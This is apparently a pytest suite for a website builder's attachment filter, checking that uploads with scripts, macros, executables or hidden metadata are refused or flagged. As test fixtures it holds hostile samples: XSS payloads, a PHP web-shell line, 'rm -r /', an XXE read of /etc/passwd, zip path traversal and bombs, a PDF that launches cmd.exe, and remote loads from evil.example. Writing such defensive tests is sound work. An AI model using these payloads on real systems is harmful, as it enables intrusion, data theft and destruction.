"""What is not on the list is not published, whatever it is called."""

import gzip
import io
import lzma
import tarfile
import zipfile
import zlib
from pathlib import Path

import pytest
from PIL import ExifTags, Image
from support import Site

from plenary.attachments import archives as packing
from plenary.attachments import svg
from plenary.attachments.archives import UnsafeFileError
from plenary.attachments.file_types import KINDS, check
from plenary.attachments.hidden_metadata import hidden

HTML = b"<!doctype html>\n<html><script>fetch('/en/')</script></html>\n"
NEWS = "news/2024-11-07-opening/"
DRAWING = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'
WORD = {
    "[Content_Types].xml": '<Types><Override ContentType="main+xml"/></Types>',
    "word/document.xml": "<w:document><w:p>Words</w:p></w:document>",
}
ODF = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}


def packed(members: dict[str, str | bytes]) -> bytes:
    """Return a ZIP file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


FORBIDDEN: dict[str, bytes] = {
    "page.html": HTML,
    "page.xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"/>',
    "script.js": b"alert(1)",
    "module.mjs": b"alert(1)",
    "page.php": b"<?php phpinfo(); ?>",
    "program.exe": b"MZ\x90\0",
    "web.config": b"<configuration/>",
    "letter.docm": packed(WORD | {"word/vbaProject.bin": "x"}),
    "table.xlsm": packed({"xl/vbaProject.bin": "x"}),
    "page.txt": HTML,
    "page.pdf": HTML,
    "page.csv": b"\xef\xbb\xbf \n" + HTML,
    "wide.txt": HTML.decode().encode("utf-16"),
    "page.json": HTML,
    "page.ics": HTML,
    "hidden.ics": b"BEGIN:VCALENDAR\r\nX:<script src=//evil.example></script>\r\n",
    "words.srt": b"1\n00:00:00,000 --> 00:00:01,000\n<img src=x onerror=alert(1)>\n",
    "click.txt": b"Words <b onmouseover = alert(1)>more</b>",
    "server.txt": b"Words\n<?php system($_GET[0]);",
    "shell.txt": b"#!/bin/sh\nrm -r /\n",
    "program.pdf": b"MZ\x90\0",
    "program.zip": b"\x7fELF\x02",
    "program.mp4": b"MZ\x90\0",
    "page.mp3": HTML,
    "kit.zip": packed({"setup/Setup.EXE": "MZ"}),
    "java.zip": packed({"META-INF/MANIFEST.MF": "", "x/A.class": ""}),
    "polyglot.zip": HTML + packed({"a.txt": "x"}),
    "renamed.docx": packed(WORD | {"word/vbaProject.bin": "x"}),
    "macro.docx": packed(WORD | {"[Content_Types].xml": "vnd.ms-word.document.macroEnabled.main"}),
    "sheet.docx": packed({"[Content_Types].xml": "", "xl/workbook.xml": ""}),
    "old.xlsx": packed({"[Content_Types].xml": "", "xl/macrosheets/sheet1.xml": ""}),
    "basic.odt": packed(ODF | {"Basic/Standard/Module1.xml": "Sub Main"}),
    "script.odt": packed(ODF | {"Scripts/python/x.py": ""}),
    "old.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "old.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    "object.rtf": rb"{\rtf1{\object\objocx{\*\objdata 01}}}",
    "page.html.gz": gzip.compress(HTML),
    "page.txt.gz": gzip.compress(HTML),
    "page.php.pdf": b"%PDF-1.7",
    "style.xml": b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="x.xsl"?><a/>',
    "page.xml": b'<a><x:script xmlns:x="http://www.w3.org/1999/xhtml">1</x:script></a>',
    "dtd.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "page.kml": b'<kml><svg xmlns="http://www.w3.org/2000/svg"/></kml>',
    "noending": b"x",
    "empty.pdf": b"",
    "broken.docx": b"PK\x03\x04 cut",
    "script.svg": DRAWING.format("<script>alert(1)</script>").encode(),
    "page.svg": HTML,
}
WELCOME: dict[str, bytes] = {
    "plan.pdf": b"%PDF-1.7\n",
    "plan.PDF": b"%PDF-1.4\n",
    "letter.docx": packed(WORD),
    "table.xlsx": packed({"[Content_Types].xml": "", "xl/workbook.xml": ""}),
    "talk.pptx": packed({"[Content_Types].xml": "", "ppt/presentation.xml": ""}),
    "letter.odt": packed(ODF | {"Basic/Standard/script-lb.xml": "", "Basic/script-lc.xml": ""}),
    "words.txt": '议程 a < b, 5 <6> & "quoted" <opening>'.encode("gb18030"),
    "table.csv": b"name;mail\nA <a@b.example>;1\n",
    "wide.csv": "name\tcity\n".encode("utf-16"),
    "data.json": b'{"html": "<p>Words</p>"}',
    "map.geojson": b'{"type": "FeatureCollection", "features": []}',
    "data.xml": b'<?xml version="1.0" encoding="UTF-8"?><table><row a="1"/></table>',
    "way.gpx": b'<gpx xmlns="http://www.topografix.com/GPX/1/1"/>',
    "days.ics": b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n",
    "press.vcf": b"BEGIN:VCARD\r\nEND:VCARD\r\n",
    "words.vtt": b"\xef\xbb\xbfWEBVTT\n\n00:00.000 --> 00:01.000\n<v Li><i>Welcome</i>\n",
    "words.srt": b"1\n00:00:00,000 --> 00:00:01,000\n<i>Welcome</i>\n",
    "kit.zip": packed({"a/photo.jpg": "x", "b/readme.txt": "x"}),
    "data.csv.gz": gzip.compress(b"a;b\n"),
    "v1.2.gz": gzip.compress(b"a"),
    "talk.mp3": b"ID3\x04",
    "film.mp4": b"\0\0\0\x0cftypisom",
    "film.webm": b"\x1a\x45\xdf\xa3",
    "talk.wav": b"RIFF\x24\0\0\0WAVEfmt ",
    "mark.svg": DRAWING.format('<path d="M0 0h1"/>').encode(),
}


@pytest.mark.parametrize("name", FORBIDDEN)
def test_a_file_of_a_forbidden_kind_is_refused_under_any_name(name: str) -> None:
    with pytest.raises(UnsafeFileError):
        check(name, FORBIDDEN[name])


@pytest.mark.parametrize("name", WELCOME)
def test_what_a_press_office_offers_is_welcome(name: str) -> None:
    check(name, WELCOME[name])


@pytest.mark.parametrize("ending", sorted(KINDS))
def test_no_kind_takes_a_page_or_a_program(ending: str) -> None:
    for data in (HTML, b"MZ\x90\0" + b"\0" * 400, b"\x7fELF" + b"\0" * 400):
        with pytest.raises(UnsafeFileError):
            check(f"x.{ending}", data)


def test_the_settings_allow_more(small: Site) -> None:
    check("page.html", HTML, frozenset({"html"}))
    small.change(f"{NEWS}index.en.md", "plan.txt", "plan.step")
    (small.content / NEWS / "plan.step").write_bytes(b"ISO-10303-21;")
    _, problems = small.build()
    assert problems.stop
    small.built(ATTACHMENTS=[".STEP"])
    assert (small.output / "media" / NEWS / "plan.step").read_bytes() == b"ISO-10303-21;"


def test_every_link_to_such_a_file_is_told_with_its_line(small: Site) -> None:
    for name, data in FORBIDDEN.items():
        (small.content / NEWS / name).write_bytes(data)
    links = "".join(f"[x]({{static}}{name})\n" for name in FORBIDDEN)
    small.write(f"{NEWS}index.en.md", f"---\ntitle: News\ndate: 2024-11-07\n---\n{links}")
    _, problems = small.build()
    told = {p.place.line for p in problems if not p.warning and "cannot be published" in p.what}
    assert told == set(range(5, 5 + len(FORBIDDEN)))
    assert not small.output.exists()


def test_files_that_no_text_links_to_are_not_published(small: Site) -> None:
    for name in ("page.html", "script.svg", "plan2.pdf"):
        (small.content / NEWS / name).write_bytes((FORBIDDEN | {"plan2.pdf": b"%PDF-"})[name])
    small.built()
    assert not [path for path in small.tree() if Path(path).name in (*FORBIDDEN, "plan2.pdf")]


@pytest.mark.parametrize(
    "inside",
    [
        "<script>alert(1)</script>",
        '<g onload="alert(1)"/>',
        "<foreignObject><p>x</p></foreignObject>",
        '<image href="https://evil.example/x.png"/>',
        '<image href="data:image/svg+xml;base64,PHN2Zy8+"/>',
        '<use href="https://evil.example/x.svg#a"/>',
        '<a href="javascript:alert(1)"><path d=""/></a>',
        '<set attributeName="href" to="javascript:alert(1)"/>',
        "<animate attributeName='href' values='javascript:alert(1)'/>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>a{fill:url( 'https://evil.example/' )}</style>",
        "<style>a{fill:u\\72l(https://evil.example/)}</style>",
        "<style><g/>@import 'x';</style>",
        '<g style="background:url(//evil.example)"/>',
        '<g fill="url(https://evil.example/#a)"/>',
        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
        '<handler xmlns="http://www.w3.org/2001/xml-events">alert(1)</handler>',
    ],
)
def test_a_drawing_with_something_that_runs_or_loads_is_refused(inside: str) -> None:
    with pytest.raises(ValueError, match=r"not allowed|loads|style contains"):
        svg.safe(DRAWING.format(inside).encode())


def test_a_drawing_with_entities_is_refused() -> None:
    bomb = '<!DOCTYPE svg [<!ENTITY a "aaaa">]>' + DRAWING.format("<text>&a;</text>")
    with pytest.raises(ValueError, match=r"entities \(line 1\)"):
        svg.safe(bomb.encode())
    with pytest.raises(ValueError, match="UTF-8"):
        svg.safe(bomb.encode("utf-16"))


def test_a_drawing_is_published_without_what_its_editor_wrote(small: Site) -> None:
    drawing = (
        '<?xml version="1.0"?><?xml-stylesheet href="x.css"?><!-- Zhang San -->'
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd">'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:e="http://editor.example/" e:by="Zhang San">'
        "<metadata>Zhang San</metadata><e:view/>"
        '<g fill="url(#a)" e:label="x"><path d="M0 0h1"/></g></svg>'
    )
    (small.content / NEWS / "mark.svg").write_text(drawing)
    small.change(f"{NEWS}index.en.md", "{static}plan.txt", "{static}mark.svg")
    small.built()
    assert (small.output / "media" / NEWS / "mark.svg").read_text() == (
        '<svg xmlns="http://www.w3.org/2000/svg"><g fill="url(#a)"><path d="M0 0h1"/></g></svg>'
    )


def placed() -> bytes:
    """Return a photo that says where it was taken."""
    image, out, tags = Image.new("RGB", (8, 8)), io.BytesIO(), Image.Exif()
    tags.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = (38.0, 18.0, 15.0)
    image.save(out, "JPEG", exif=tags)
    return out.getvalue()


def _core(**names: str) -> str:
    inner = "".join(f"<d:{name}>{value}</d:{name}>" for name, value in names.items())
    return f'<c xmlns:d="urn:x">{inner}</c>'


NAMED = _core(creator="Zhang San", lastModifiedBy="Li Si")


def a_pdf() -> bytes:
    """Return a PDF file with an author, a comment, and a photo with a place."""
    from pypdf import PdfWriter  # noqa: PLC0415
    from pypdf.annotations import FreeText  # noqa: PLC0415

    image = Image.open(io.BytesIO(placed()))
    plain, out = io.BytesIO(), io.BytesIO()
    image.save(plain, "PDF")
    writer = PdfWriter(clone_from=plain)
    for one in writer.pages[0]["/Resources"]["/XObject"].values():  # type: ignore[index]
        one.get_object()._data = placed()
    writer.add_metadata({"/Author": "Zhang San"})
    writer.add_annotation(0, FreeText(text="Really?", rect=(0, 0, 5, 5)))
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "data", "told"),
    [
        (
            "a.docx",
            packed(
                WORD | {"docProps/core.xml": _core(creator="Zhang San", lastModifiedBy="Li Si")}
            ),
            ["HIDDEN_NAME Zhang San", "HIDDEN_NAME Li Si"],
        ),
        (
            "a.docx",
            packed(WORD | {"word/comments.xml": "<w:comments><w:comment w:id='0'/></w:comments>"}),
            ["HIDDEN_COMMENTS "],
        ),
        (
            "a.docx",
            packed(WORD | {"word/document.xml": "<w:document><w:del w:id='1'/></w:document>"}),
            ["HIDDEN_CHANGES "],
        ),
        (
            "a.docx",
            packed(WORD | {"word/media/image1.jpeg": placed()}),
            ["HIDDEN_LOCATION "],
        ),
        (
            "a.odt",
            packed(
                ODF
                | {
                    "meta.xml": _core(creator="Li Si"),
                    "content.xml": "<x><text:changed-region/><office:annotation/></x>",
                    "Pictures/1.jpg": placed(),
                }
            ),
            [
                "HIDDEN_NAME Li Si",
                "HIDDEN_COMMENTS ",
                "HIDDEN_CHANGES ",
                "HIDDEN_LOCATION ",
            ],
        ),
        (
            "a.pdf",
            a_pdf(),
            ["HIDDEN_NAME Zhang San", "HIDDEN_COMMENTS ", "HIDDEN_LOCATION "],
        ),
        ("a.docx", packed(WORD | {"docProps/core.xml": _core(creator="python-docx")}), []),
        ("a.docx", packed(WORD), []),
        ("a.pdf", b"%PDF-1.7 broken", []),
    ],
)
def test_what_a_document_gives_away_is_found(name: str, data: bytes, told: list[str]) -> None:
    assert sorted(map(" ".join, hidden(name, data))) == sorted(told)


def test_each_thing_that_a_document_gives_away_is_a_warning(small: Site) -> None:
    (small.content / NEWS / "a.pdf").write_bytes(a_pdf())
    small.change(f"{NEWS}index.en.md", "{static}plan.txt", "{static}a.pdf")
    _, problems = small.build()
    told = [p for p in problems if p.place.file.endswith("a.pdf")]
    assert all(p.warning for p in told)
    assert [p.what for p in told] == [
        "the file contains comments",
        "the file contains pictures with the location where they were taken",
        "the file's properties contain the name `Zhang San`",
    ]


def test_changes_and_paths_in_a_document_are_warnings(small: Site) -> None:
    changed = {"word/document.xml": "<w:document><w:del w:id='0'/></w:document>"}
    path = relation("attachedTemplate", "file:///C:/li/t.dotx")
    (small.content / NEWS / "a.docx").write_bytes(packed(path | changed))
    small.change(f"{NEWS}index.en.md", "{static}plan.txt", "{static}a.docx")
    _, problems = small.build()
    assert [p.what for p in problems if p.place.file.endswith("a.docx")] == [
        "the file contains the path of a folder on the author's computer: `file:///C:/li/t.dotx`",
        "the file contains tracked changes",
    ]


def tarball(members: dict[str, bytes], mode: str = "w") -> bytes:
    """Return a tar file."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def relation(kind: str, target: str) -> dict[str, str | bytes]:
    """Return a Word file that has something outside of it."""
    inner = f'<Relationship Type="x/{kind}" Target="{target}" TargetMode="External"/>'
    return WORD | {"word/_rels/x.xml.rels": f"<Relationships>{inner}</Relationships>"}


def with_objects(objects: bytes) -> bytes:
    """Return a PDF file that keeps objects compressed."""
    return b"%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1>>stream\n" + zlib.compress(objects)


XHTML_ATTACK = '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
MACRO = packed(WORD | {"word/vbaProject.bin": "x"})
DISGUISED: dict[str, bytes] = {
    "link.csv": b'a,"<a href=javascript:alert(1)>x</a>"',
    "slash.txt": b"<p/onmouseover=alert(1)>x",
    "far.txt": b"<p " + b"a" * 600 + b" onclick=alert(1)>",
    "server.txt": b'<!--#exec cmd="ls" -->',
    "page.shtml.txt": b"x",
    "dtd.xml": XHTML_ATTACK.encode("utf-16"),
    "style.xml": '<?xml-stylesheet href="x.xsl"?><a/>'.encode("utf-16"),
    "space.zip": packed({"x.hta ": "x"}),
    "stop.zip": packed({"x.exe.": "x"}),
    "shell.zip": packed({"x.scf": "x"}),
    "inner.zip": packed({"a/inner.zip": packed({"x.exe": "MZ"})}),
    "macro.zip": packed({"letter.docx": MACRO}),
    "deep.zip": packed({"a.zip": packed({"a.zip": packed({"a.zip": packed({"a.zip": "x"})})})}),
    "out.zip": packed({"../../x.txt": "x"}),
    "root.zip": packed({"/etc/x": "x"}),
    "drive.zip": packed({"C:\\x.txt": "x"}),
    "program.tar": tarball({"x.exe": b"MZ"}),
    "program.tgz": tarball({"x.exe": b"MZ"}, "w:gz"),
    "program.tar.gz": tarball({"x.exe": b"MZ"}, "w:gz"),
    "program.tar.xz": tarball({"x.exe": b"MZ"}, "w:xz"),
    "program.tar.bz2": tarball({"a.zip": packed({"x.exe": "MZ"})}, "w:bz2"),
    "program.gz": gzip.compress(b"MZ\x90\0"),
    "template.docx": packed(relation("attachedTemplate", "http://evil.example/t.dotm")),
    "share.docx": packed(relation("oleObject", "file://///evil.example/share/x")),
    "field.docx": packed(WORD | {"word/document.xml": "<w:instrText> DDEAUTO cmd</w:instrText>"}),
    "button.odt": packed(ODF | {"content.xml": '<x href="vnd.sun.star.script:a"/>'}),
    "script.pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "launch.pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S /Launch/F(cmd.exe)>>>>endobj",
    "packed.pdf": with_objects(b"<</Names<</JavaScript 4 0 R>>>>"),
    "template.rtf": rb"{\rtf1{\*\template http://evil.example/t.dotm}}",
    "link.rtf": rb"{\rtf1{\object\objautlink x}}",
}


@pytest.mark.parametrize("name", DISGUISED)
def test_what_runs_is_found_inside_archives_documents_and_other_encodings(name: str) -> None:
    with pytest.raises(UnsafeFileError):
        check(name, DISGUISED[name])


def test_archives_of_usual_files_are_welcome() -> None:
    usual = packed({"a.docx": packed(WORD), "b/c.zip": packed({"photo.jpg": "x"})})
    for name, data in {
        "kit.zip": usual,
        "kit.tar": tarball({"kit.zip": usual}),
        "kit.tgz": tarball({"a.csv": b"1"}, "w:gz"),
        "kit.csv.xz": lzma.compress(b"1;2\n"),
        "linked.docx": packed(relation("hyperlink", "https://rivers.example/")),
        "template.docx": packed(relation("attachedTemplate", "file:///C:\\Users\\li\\t.dotx")),
        "plain.pdf": with_objects(b"<</Type/Catalog/Names 4 0 R>>"),
    }.items():
        check(name, data)


def test_what_grows_beyond_measure_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(packing, "MOST_BYTES", 100_000)
    zeros = b"0" * 2_000_000
    for name, data in {
        "a.csv.gz": gzip.compress(zeros),
        "a.xz": lzma.compress(zeros),
        "a.zip": zipped({"a.csv": zeros}),
        "a.docx": zipped(WORD | {"word/x.xml": zeros}),
    }.items():
        with pytest.raises(UnsafeFileError, match=r"times as large|more than"):
            check(name, data)


def zipped(members: dict[str, str | bytes]) -> bytes:
    """Return a ZIP file that is compressed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def test_a_template_s_place_on_a_computer_is_said() -> None:
    word = packed(relation("attachedTemplate", "file:///C:\\Users\\li%20ming\\t.dotx"))
    assert hidden("a.docx", word) == [("HIDDEN_PATH", "file:///C:\\Users\\li ming\\t.dotx")]


@pytest.mark.parametrize(
    "inside",
    [
        "<style>@imp<metadata>x</metadata>ort 'https://evil.example';</style>",
        "<style>a{fill:ur<e:x xmlns:e='urn:e'>x</e:x>l(https://evil.example)}</style>",
        '<rect filter="u\\72l(//evil.example)"/>',
        '<rect fill="src(//evil.example)"/>',
        "<style>a{background:-webkit-cross-fade('//evil.example/x.png', red)}</style>",
        "<g " + " ".join(f"a{number}='x'" for number in range(3000)) + "/>",
    ],
)
def test_a_style_is_read_as_browsers_will_read_it(inside: str) -> None:
    with pytest.raises(ValueError, match=r"loads|style contains|attributes"):
        svg.safe(DRAWING.format(inside).encode())


def test_what_inkscape_writes_of_itself_is_left_out() -> None:
    rdf = '<r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><r:x/></r:RDF>'
    drawing = DRAWING.format(f"<metadata>{rdf}</metadata><g/>")
    assert svg.safe(drawing.encode()).decode() == DRAWING.format("<g/>")
    declared = '<?xml version="1.0" encoding="ISO-8859-1"?>' + DRAWING.format("<text>é</text>")
    assert "<text>é</text>" in svg.safe(declared.encode()).decode()
